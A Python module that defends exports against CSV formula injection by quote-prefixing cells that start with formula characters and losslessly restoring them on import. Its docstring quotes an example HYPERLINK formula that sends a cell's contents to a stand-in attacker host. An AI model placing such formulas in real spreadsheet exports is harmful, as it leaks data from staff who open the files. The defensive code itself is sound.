"""CSV files that are safe to open in a spreadsheet (OWASP's CSV-injection rule), read back losslessly.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets: a client named
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run when staff open an
export.  Every CSV the project writes goes through :func:`writer`, which puts a
single quote in front of such cells (spreadsheets show the text, run nothing);
leading spaces before one of those characters count too.

:func:`restore` undoes it when a file is read back, so import → export → import
keeps every value, a note beginning with ``-`` and ``+1 555…`` numbers included.
To keep that true for every value, a cell that itself begins with a quote is
escaped with one more quote.  (A cell from another program that begins with a
quote followed by one of those characters, or by another quote, loses that first
quote: that is how such programs escape formulas too.)
"""
from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any

TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"


def _needs_quote(cell: str) -> bool:
    if cell.startswith(QUOTE):
        return True
    first = cell.lstrip(" \u00a0")[:1]
    return first in TRIGGERS if first else False


def neutralise(cell: str) -> str:
    """The cell as it is safe to write: ``'=1+1`` for ``=1+1``, ``''x`` for ``'x``; others unchanged."""
    return QUOTE + cell if _needs_quote(cell) else cell


def restore(cell: str) -> str:
    """The value a written cell stands for: undoes :func:`neutralise` (and leaves other cells alone)."""
    if cell.startswith(QUOTE) and _needs_quote(cell[1:]):
        return cell[1:]
    return cell


class SafeWriter:
    """``csv.writer`` that neutralises every cell it writes (headers included)."""

    def __init__(self, file: Any, **fmtparams: Any):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Sequence[Any]) -> Any:
        return self._writer.writerow([neutralise("" if cell is None else str(cell)) for cell in row])

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: Any, **fmtparams: Any) -> SafeWriter:
    """The only way this project writes CSV: like ``csv.writer``, with every cell neutralised."""
    return SafeWriter(file, **fmtparams)
